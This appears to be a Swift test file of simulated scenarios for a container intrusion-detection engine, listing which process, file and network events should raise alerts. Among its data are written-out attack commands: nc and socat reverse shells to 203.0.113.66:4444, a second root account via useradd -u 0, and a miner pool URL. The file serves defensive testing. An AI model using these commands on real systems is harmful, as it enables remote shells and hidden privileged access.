import Model

extension Scenario {
  static let accounts: [Scenario] = [
    .alert("account.file-written", .high, "passwd") { s in s.write(s.run("sh", below: s.run("nginx")), "/etc/passwd") },
    .alert("account.file-written", .medium, "shadow, refused") { s in
      s.write(s.run("sh", below: s.run("nginx")), "/etc/shadow", result: -13)
    },
    .alert("account.file-written", .high, "useradd replaces the file") { s in
      let tool = s.run("useradd", "eve", below: s.run("bash", below: s.run("nginx")))
      s.call(tool, "rename", [], "/etc/passwd+", to: "/etc/passwd")
    },
    .alert("account.file-written", .critical, "ld.so.preload") { s in
      s.write(s.run("sh", below: s.run("nginx")), "/etc/ld.so.preload")
    },
    .harmless("account.file-written", "a package makes its user") { s in
      let apt = s.run("apt-get", "install", "redis", below: s.run("bash"))
      s.write(s.run("useradd", "redis", below: s.run("dpkg", below: apt)), "/etc/passwd")
    },
    .alert("account.file-written", .medium, "an entrypoint adds the user id that it runs under") { s in
      s.write(s.run("sh", "/entrypoint.sh"), "/etc/passwd")
    },
    .alert("account.file-written", .high, "a service that began at once") { s in
      s.write(s.run("sh", "-c", "x", below: s.run("nginx", below: s.run("sh", "/entrypoint.sh"))), "/etc/passwd")
    },
    .harmless("account.file-written", "passwd is read") { s in s.read(s.run("id", below: s.run("nginx")), "/etc/passwd")
    },
    .alert("account.tool", .high, "a second root") { s in
      s.run("useradd", "-o", "-u", "0", "toor", below: s.run("bash", below: s.run("nginx")))
    },
    .alert("account.tool", .high, "into the group docker") { s in
      s.run("usermod", "-aG", "docker", "app", below: s.run("bash"))
    },
    .harmless("account.tool", "an entrypoint maps a user id", atMost: .medium) { s in
      s.run("usermod", "-o", "-u", "1000", "abc", below: s.run("sh", "/entrypoint.sh"))
    },
    .harmless("account.tool", "a package makes its user") { s in
      s.run("adduser", "--system", "redis", below: s.run("dpkg", below: s.run("apt-get", "install", "redis")))
    },
    .alert("credential.shadow-read", .medium, "cat /etc/shadow") { s in s.read(s.run("cat"), "/etc/shadow") },
    .alert("credential.shadow-read", .low, "refused") { s in s.read(s.run("cat"), "/etc/shadow", result: -13) },
    .harmless("credential.shadow-read", "sshd checks a password") { s in s.read(s.run("/usr/sbin/sshd"), "/etc/shadow")
    },
  ]

  static let programs: [Scenario] = [
    .alert("program.dropped", .high, "from /dev/shm") { s in
      s.run("/dev/shm/x", below: s.run("nginx")) { $0.isDropped = true }
    },
    .alert("program.dropped", .medium, "from a place of the application") { s in
      s.run("/srv/app/tool", below: s.run("nginx")) { $0.isDropped = true }
    },
    .harmless("program.dropped", "a maintainer script") { s in
      let dpkg = s.run("dpkg", "--configure", "-a", below: s.run("apt-get", "install", "x"))
      s.run("/var/lib/dpkg/info/x.postinst", "configure", below: dpkg) { $0.isDropped = true }
    },
    .harmless("program.dropped", "a program of the image") { s in s.run("/usr/bin/convert", below: s.run("nginx")) },
    .alert("sensor.flood", .high, "events were dropped") { s in s.add(s.run("stress"), .flood(lost: 40_000)) },
    .harmless("sensor.flood", "many events that all arrived") { s in
      let build = s.run("make")
      for _ in 0..<500 { s.run("cc", below: build) }
    },
    .alert("program.fileless", .high, "memfd") { s in
      s.run("x", below: s.run("nginx"), program: "/memfd:x") { $0.isNameless = true }
    },
    .harmless("program.fileless", "runc's sealed copy") { s in
      s.run("runc", "init", program: "/memfd:runc_cloned:/proc/self/exe") {
        $0.isNameless = true
        $0.isOutside = true
      }
    },
    .alert("program.fileless", .high, "a memory file that is called like runc's") { s in
      s.run("x", program: "/memfd:runc_cloned:/proc/self/exe") { $0.isNameless = true }
    },
    .alert("program.miner", .high, "its pool on the command line") { s in
      s.run("/usr/bin/kworker", "-o", "stratum+tcp://pool.example:3333", below: s.run("nginx"))
    },
    .alert("program.miner", .high, "a dropped program connects to a pool's port") { s in
      s.connect(s.run("/tmp/x", below: s.run("nginx")) { $0.isDropped = true }, "203.0.113.9", 3333)
    },
    .harmless("program.miner", "a service of the image on such a port") { s in
      s.connect(s.run("/usr/bin/app"), "203.0.113.9", 3333)
    },
    .alert("program.network-tool", .high, "nc -e") { s in
      s.run("nc", "203.0.113.66", "4444", "-e", "/bin/sh", below: s.run("nginx"))
    },
    .alert("program.network-tool", .high, "socat for a shell") { s in
      s.run("socat", "tcp:203.0.113.66:4444", "exec:'bash -li',pty", below: s.run("nginx"))
    },
    .alert("program.network-tool", .medium, "socat that echoes") { s in
      s.run("socat", "TCP-LISTEN:7,fork", "EXEC:/bin/cat")
    },
    .alert("program.network-tool", .medium, "nmap") { s in s.run("nmap", "10.0.0.0/24", below: s.run("nginx")) },
    .harmless("program.network-tool", "a health check") { s in s.run("nc", "-z", "127.0.0.1", "6379") },
    .alert("program.package-manager", .low, "apt-get install") { s in
      s.run("apt-get", "install", "-y", "nmap", below: s.run("bash"))
    },
    .harmless("program.package-manager", "a list of packages") { s in s.run("dpkg", "-l", below: s.run("bash")) },
    .alert("persistence.scheduled", .high, "a crontab") { s in
      s.write(s.run("sh", below: s.run("nginx")), "/var/spool/cron/crontabs/root")
    },
    .alert("persistence.scheduled", .medium, "an entrypoint writes its crontab") { s in
      s.write(s.run("sh", "/entrypoint.sh"), "/etc/cron.d/backup")
    },
    .alert("persistence.scheduled", .high, "the first process, an hour later") { s in
      let entry = s.run("sh", "/entrypoint.sh")
      s.pass(seconds: 3600)
      s.write(entry, "/etc/cron.d/backup")
    },
    .alert("persistence.scheduled", .medium, "a profile, refused") { s in
      s.write(s.run("sh", below: s.run("nginx")), "/etc/profile.d/x.sh", result: -13)
    },
    .alert("persistence.scheduled", .high, "somebody's profile") { s in
      s.write(s.run("sh", below: s.run("nginx")), "/home/app/.bashrc")
    },
    .harmless("persistence.scheduled", "a copy of /etc is made") { s in
      s.rename(s.run("rsync", "-a", "/etc/", "/b/", below: s.run("bash")), "skel/.bashrc.Xy12", "skel/.bashrc")
    },
    .harmless("persistence.scheduled", "a package brings its job") { s in
      s.write(s.run("dpkg", below: s.run("apt-get", "install", "logrotate")), "/etc/cron.daily/logrotate")
    },
    .alert("program.reconnaissance", .medium, "five questions below a service") { s in
      let app = s.run("node", "/app/server.js", below: s.run("tini"))
      for words in [["id"], ["uname", "-a"], ["hostname"], ["ps", "aux"], ["ip", "a"]] { s.run(words, below: app) }
    },
    .harmless("program.reconnaissance", "a person in docker exec") { s in
      let bash = s.run("bash") { $0.login = Login(way: .engineExecution, user: "root") }
      for words in [["id"], ["uname", "-a"], ["hostname"], ["ps", "aux"], ["ip", "a"]] { s.run(words, below: bash) }
    },
    .harmless("program.reconnaissance", "an entrypoint asks twice") { s in
      let entry = s.run("sh", "/entrypoint.sh")
      s.run("id", "-u", below: entry)
      s.run("hostname", "-i", below: entry)
    },
    .alert("shell.interactive", .low, "docker exec -it") { s in
      let terminal = s.terminal()
      s.run("bash", streams: [terminal, terminal, terminal])
    },
    .harmless("shell.interactive", "docker exec of one command") { s in s.run("sh", "-c", "date") },
    .alert("hiding.traces-removed", .medium, "a history") { s in
      s.call(s.run("rm", "/root/.bash_history", below: s.run("bash")), "unlinkat", [], "/root/.bash_history")
    },
    .harmless("hiding.traces-removed", "a shell ends and writes its history") { s in
      s.call(s.run("bash"), "openat", [0, 0, 0o1102], "/root/.bash_history", result: 3)
    },
    .harmless("hiding.traces-removed", "logrotate") { s in
      s.call(s.run("logrotate", "/etc/logrotate.conf"), "unlink", [], "/var/log/nginx/access.log.5")
    },
  ]

  static let network: [Scenario] = [
    .alert("network.metadata", .high, "curl") { s in
      s.connect(s.run("curl", below: s.run("nginx")), "169.254.169.254", 80)
    },
    .harmless("network.metadata", "the application's own library", atMost: .medium) { s in
      s.connect(s.run("/usr/bin/app"), "169.254.169.254", 80)
    },
    .harmless("network.metadata", "another address") { s in s.connect(s.run("curl"), "169.254.1.1", 80) },
    .alert("network.scan", .high, "many ports of one host") { s in
      let scanner = s.run("/tmp/scan")
      for port in 1...40 { s.connect(scanner, "10.0.0.9", UInt16(port), establishes: false) }
    },
    .alert("network.scan", .high, "many hosts") { s in
      let scanner = s.run("/tmp/scan")
      for host in 1...40 { s.connect(scanner, "10.0.0.\(host)", 22, establishes: false) }
    },
    .harmless("network.scan", "a pool of connections to one database") { s in
      let app = s.run("java", "-jar", "app.jar")
      for _ in 1...60 { s.connect(app, "10.0.0.9", 5432) }
    },
    .harmless("network.scan", "a crawler on the internet") { s in
      let crawler = s.run("/usr/bin/crawler")
      for host in 1...60 { s.connect(crawler, "203.0.113.\(host)", 443) }
    },
    .alert("network.raw-socket", .medium, "a sniffer") { s in
      s.call(s.run("/opt/sniff"), "socket", [17, 3, 0x300], result: 3)
    },
    .alert("network.raw-socket", .low, "refused") { s in
      s.call(s.run("/opt/sniff"), "socket", [17, 3, 0x300], result: -1)
    },
    .harmless("network.raw-socket", "a name is looked up, a login is audited") { s in
      s.call(s.run("/usr/bin/app"), "socket", [16, 0x80003, 0], result: 3)
      s.call(s.run("/usr/sbin/sshd"), "socket", [16, 3, 9], result: -1)
    },
    .harmless("network.raw-socket", "ping") { s in s.call(s.run("ping", "10.0.0.1"), "socket", [2, 3, 1], result: 3) },
    .alert("credential.token-read", .medium, "cat") { s in
      s.read(s.run("cat", below: s.run("nginx")), "/var/run/secrets/kubernetes.io/serviceaccount/token")
    },
    .harmless("credential.token-read", "a controller") { s in
      s.read(s.run("/manager"), "/var/run/secrets/kubernetes.io/serviceaccount/token")
    },
  ]
}
